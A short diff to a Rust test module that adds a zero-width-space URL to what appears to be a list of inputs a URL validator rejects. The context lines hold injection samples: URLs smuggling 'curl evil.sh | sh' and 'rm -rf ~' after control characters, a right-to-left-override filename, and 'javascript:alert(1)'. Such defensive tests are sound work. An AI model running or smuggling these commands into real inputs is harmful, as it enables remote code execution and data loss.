@@ -200,6 +200,7 @@ mod tests {
             "https://x.com/\rcurl evil.sh | sh",
             "https://x.com/a\nrm -rf ~",
             "https://x.com/\u{202E}txt.exe",
+            "https://x.com/\u{200B}",
             "javascript:alert(1)",
             "ftp://x.com/file",
             "echo pwned",
